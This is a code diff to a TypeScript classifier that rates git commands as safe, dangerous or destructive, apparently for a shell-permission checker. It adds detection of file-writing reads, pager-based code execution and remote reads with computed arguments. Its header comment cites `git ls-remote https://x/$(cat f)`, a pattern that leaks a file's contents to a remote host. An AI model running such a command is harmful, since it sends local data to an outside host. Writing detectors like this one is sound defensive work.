@@ -1,10 +1,14 @@
 /**
  * Version control: reads (status, log, diff, …) are safe; writes (commit, push, checkout, …) dangerous;
- * force-pushing or deleting main/master and `--mirror` are destructive (GitHub's CLI: github.ts).
+ * force-pushing or deleting main/master and `--mirror` are destructive (GitHub's CLI: github.ts). A read
+ * that writes a file (`git log --output=x`) is dangerous, and so is one that contacts a remote with a
+ * computed argument (`git ls-remote https://x/$(cat f)`).
  */
+import { computedNetworkArgument } from "../computed";
 import { firstPositional, optionSpec, parseArgs } from "../options";
 import { type Invocation, register, words } from "../registry";
 import { type Classification, dangerous, destructive, safe, shown, worse } from "../types";
+import { classifyWrittenFiles, outputFile } from "../write-target";
 
 export function vcsRead(what: string): Classification {
   return safe("vcs-read", `version-control read: ${shown(what)}`);
@@ -19,7 +23,7 @@ const GIT_READS = new Set(
   ls-remote cat-file grep show-ref show-branch for-each-ref merge-base name-rev count-objects
   check-ignore check-attr check-ref-format check-mailmap var whatchanged cherry range-diff
   diff-tree diff-files diff-index verify-commit verify-tag verify-pack version help fetch fsck
-  request-pull get-tar-commit-id column hash-object ls-files bugreport
+  request-pull get-tar-commit-id column hash-object ls-files
 `),
 );
 const GIT_WRITES = new Set(
@@ -77,6 +81,15 @@ register(["git"], (inv) => {
     )
   ) {
     return dangerous("code-execution", `code execution: ${what} with a custom remote program`);
+  }
+  const written = gitOutputFiles(sub, rest);
+  if (written !== null) return written;
+  if (GIT_REMOTE_READS.has(sub) || (sub === "remote" && rest[0] === "show")) {
+    const computed = computedNetworkArgument("git", args);
+    if (computed !== null) return computed;
+  }
+  if (sub === "grep" && rest.some((arg) => arg.startsWith("-O") || arg.startsWith("--open-files-in-pager"))) {
+    return dangerous("code-execution", "code execution: git grep --open-files-in-pager");
   }
   switch (sub) {
     case "push":
@@ -142,6 +155,32 @@ register(["git"], (inv) => {
       return dangerous("unknown-command", `unknown command: ${shown(what)}`);
   }
 });
+
+/** Reads that contact a remote. */
+const GIT_REMOTE_READS = new Set(["fetch", "ls-remote"]);
+
+/**
+ * `--output=<file>` (diff, log, show and the other diff-family commands) and `git bugreport` (always writes
+ * a report, `-o <dir>`): the output-file verdict, or null when the command writes no file.
+ */
+function gitOutputFiles(sub: string, rest: readonly string[]): Classification | null {
+  const targets: string[] = [];
+  for (let i = 0; i < rest.length; i++) {
+    const arg = rest[i];
+    if (arg === "--") break;
+    if (arg.startsWith("--output=")) targets.push(arg.slice("--output=".length));
+    else if (arg === "--output" && i + 1 < rest.length) targets.push(rest[++i]);
+  }
+  if (sub === "bugreport") {
+    const dir = rest.find(
+      (_arg, i) => i > 0 && (rest[i - 1] === "-o" || rest[i - 1] === "--output-directory"),
+    );
+    return outputFile("git bugreport", dir ?? ".");
+  }
+  return classifyWrittenFiles(targets, `git ${sub} --output`, (target) =>
+    outputFile(`git ${sub} --output`, target),
+  );
+}
 
 const LEADING_PLUS = /^\+/;
 const HEADS_PREFIX = /^refs\/heads\//;
